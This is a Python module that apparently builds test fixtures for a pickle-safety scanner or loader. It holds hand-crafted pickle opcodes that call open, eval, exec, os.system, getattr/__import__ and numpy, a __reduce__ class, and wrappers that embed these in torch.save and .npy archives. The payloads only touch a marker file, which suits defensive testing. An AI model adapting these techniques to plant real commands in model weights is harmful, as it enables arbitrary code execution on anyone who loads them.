"""Pickles that write a file when something executes them, in the archives that weights come in."""

import io
import pickle
import struct
import tarfile
import zipfile
from typing import Any

EXECUTED = "executed"  # the file, where the process is

_WRITE = f"open({EXECUTED!r}, 'w')"
# Protocol 0: what is called, its arguments, the call.
CALLS: dict[str, bytes] = {
    "open": f"cbuiltins\nopen\n(V{EXECUTED}\nVw\ntR".encode(),
    "eval": f"cbuiltins\neval\n(V{_WRITE}\ntR".encode(),
    "exec": f"cbuiltins\nexec\n(V{_WRITE}\ntR".encode(),
    "os.system": f"cos\nsystem\n(Vtouch {EXECUTED}\ntR".encode(),
    "an instance": f"(V{_WRITE}\nibuiltins\neval\n".encode(),
    "getattr": f"cbuiltins\ngetattr\n(c__builtin__\n__import__\n(Vos\ntRVsystem\ntR(Vtouch {EXECUTED}\ntR".encode(),
    "numpy": f"cnumpy\nfromfile\n(V{EXECUTED}\ntR".encode(),
    "a state": f"cbuiltins\nException\n)\x81(Vx\ncbuiltins\nexec\n(V{_WRITE}\ntRdb".encode("latin-1"),
}


class Caller:
    """Is pickled as a call."""

    def __reduce__(self) -> tuple[Any, ...]:
        return eval, (_WRITE,)


def archive(pickled: bytes, **more: bytes) -> bytes:
    """Return what torch.save writes today, of this pickle."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as opened:
        for name, inside in {"data.pkl": pickled, "version": b"3\n", "byteorder": b"little", **more}.items():
            opened.writestr(f"archive/{name}", inside)
    return content.getvalue()


def older(pickled: bytes) -> bytes:
    """Return what torch.save wrote before: a magic number, a protocol, a system, the object, keys of storages."""
    parts = [pickle.dumps(one, 2) for one in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
    return b"".join([*parts, pickled, pickle.dumps([], 2)])


def oldest(pickled: bytes) -> bytes:
    """Return what torch.save wrote first: an archive of tar."""
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w") as opened:
        for name in ("sys_info", "pickle", "tensors", "storages"):
            member = tarfile.TarInfo(name)
            member.size = len(pickled)
            opened.addfile(member, io.BytesIO(pickled))
    return content.getvalue()


def array(pickled: bytes) -> bytes:
    """Return an `.npy` file of objects, with this pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + pickled
